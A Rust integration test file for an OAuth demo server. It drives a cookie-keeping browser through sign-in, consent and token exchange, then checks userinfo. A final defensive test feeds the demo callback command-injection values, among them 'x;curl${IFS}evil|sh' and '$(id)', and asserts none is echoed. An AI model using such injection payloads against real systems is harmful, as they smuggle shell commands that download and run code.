use crate::support::{Client, TestResponse, query_of};
use crate::test_database::{TestDatabase, on_each_database};

/// A browser with cookies.
pub struct Browser {
    pub client: Client,
    pub origin: String,
    /// The cookies, as the browser sends them.
    pub cookie: String,
}

impl Browser {
    pub async fn open(&mut self, address: &str) -> TestResponse {
        let url = if address.starts_with('/') {
            format!("{}{address}", self.origin)
        } else {
            address.to_owned()
        };
        let answer = self
            .client
            .get(&url, &[("accept", "text/html"), ("cookie", &self.cookie)])
            .await;
        self.keep_cookie(&answer);
        answer
    }

    pub async fn submit(&mut self, page: &TestResponse, fields: &[(&str, &str)]) -> TestResponse {
        let token = attribute(&page.body, "name=\"form_token\" value=\"");
        let action = attribute(&page.body, "action=\"");
        let fields = [&[("form_token", token)], fields].concat();
        let url = format!("{}{action}", self.origin);
        let answer = self
            .client
            .post_form(
                &url,
                &[("accept", "text/html"), ("cookie", &self.cookie)],
                &fields,
            )
            .await;
        self.keep_cookie(&answer);
        answer
    }

    pub fn keep_cookie(&mut self, answer: &TestResponse) {
        for header in answer.headers.get_all("set-cookie") {
            let header = header.to_str().unwrap();
            let pair = header.split(';').next().unwrap();
            let (name, _) = pair.split_once('=').unwrap();
            let others = self.cookie.split("; ");
            let others = others.filter(|other| !other.is_empty() && !is_named(other, name));
            let mut cookies: Vec<&str> = others.collect();
            if !header.contains("Max-Age=0") {
                cookies.push(pair);
            }
            self.cookie = cookies.join("; ");
        }
    }
}

fn is_named(cookie: &str, name: &str) -> bool {
    cookie.split('=').next() == Some(name)
}

pub fn attribute<'a>(page: &'a str, before: &str) -> &'a str {
    let start = page
        .find(before)
        .unwrap_or_else(|| panic!("no {before} in {page}"))
        + before.len();
    page[start..].split('"').next().unwrap()
}

on_each_database!(the_printed_sign_in_address_leads_to_a_token);

async fn the_printed_sign_in_address_leads_to_a_token(database: TestDatabase) {
    let (server, ready) = database.ready();
    let text = |path: &str| ready.pointer(path).unwrap().as_str().unwrap().to_owned();
    let (origin, redirect_uri) = (text("/auth_url"), text("/client/redirect_uri"));
    let mut browser = Browser {
        client: Client::new(),
        origin: origin.clone(),
        cookie: String::new(),
    };

    // The demo's front page contains the same link as the terminal output.
    let welcome = browser.open("/").await;
    let sign_in = attribute(&welcome.body, "href=\"").replace("&amp;", "&");
    assert!(sign_in.contains(&text("/client/id")), "{sign_in}");
    let answer = browser.open(&sign_in).await;
    assert_eq!(answer.status, 303);
    let page = browser.open(answer.header("location")).await;
    let answer = browser
        .submit(
            &page,
            &[
                ("email", &text("/user/email")),
                ("password", &text("/user/password")),
            ],
        )
        .await;
    assert_eq!(answer.status, 303, "{}", answer.body);
    let page = browser.open(answer.header("location")).await;
    for shown in [
        "Demo web client",
        "Club portal",
        "See your name and your class",
        &text("/user/email"),
    ] {
        assert!(page.body.contains(shown), "{shown} is not in {}", page.body);
    }
    let answer = browser.submit(&page, &[("decision", "allow")]).await;
    assert_eq!(answer.status, 303, "{}", answer.body);
    let back = answer.header("location").to_owned();
    assert!(back.starts_with(&redirect_uri), "{back}");
    let given = query_of(&back);
    assert_eq!(
        (given["state"].as_str(), given["iss"].as_str()),
        ("demo", origin.as_str())
    );
    let landing = browser.open(&back).await;
    assert!(landing.body.contains(&given["code"]), "{}", landing.body);

    let form = [
        ("grant_type", "authorization_code"),
        ("code", &given["code"]),
        ("redirect_uri", &redirect_uri),
        ("client_id", &text("/client/id")),
        ("client_secret", &text("/client/secret")),
    ];
    let answer = browser
        .client
        .post_form(&format!("{origin}/v1/oauth/token"), &[], &form)
        .await;
    assert_eq!(answer.status, 200, "{}", answer.body);
    let tokens = answer.json();
    let scopes: Vec<&str> = ready["scopes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|scope| scope.as_str().unwrap())
        .collect();
    assert_eq!(
        tokens["scope"],
        format!("{} service:self_read", scopes.join(" "))
    );
    assert_eq!(tokens["expires_in"], 3600);
    let bearer = format!("Bearer {}", tokens["access_token"].as_str().unwrap());
    let user = browser
        .client
        .get(&format!("{origin}/userinfo"), &[("authorization", &bearer)])
        .await
        .json();
    assert_eq!(
        (&user["email"], &user["isStudent"]),
        (&ready["user"]["email"], &true.into()),
        "{user}"
    );
    assert_eq!(user["student"]["email"], ready["user"]["email"]);
    server.stop();
}

#[tokio::test]
async fn a_callback_shows_nothing_that_a_shell_would_run() {
    let (server, ready) = TestDatabase::sqlite().ready();
    let origin = ready["base_url"].as_str().unwrap();
    let client = Client::new();
    for code in ["x;curl${IFS}evil|sh", "$(id)", "%60id%60", "<b>"] {
        let url = format!(
            "{origin}/demo/native?code={}",
            code.replace('<', "%3C")
                .replace('>', "%3E")
                .replace('|', "%7C")
                .replace('{', "%7B")
        );
        let page = client.get(&url.replace('}', "%7D"), &[]).await.body;
        assert!(
            page.contains("Nothing to see") && !page.contains("curl"),
            "{page}"
        );
    }
    let native = client
        .get(&format!("{origin}/demo/native?code=abc"), &[])
        .await
        .body;
    assert!(
        native.contains(ready["public_client"]["id"].as_str().unwrap())
            && native.contains("code_verifier"),
        "{native}"
    );
    server.stop();
}
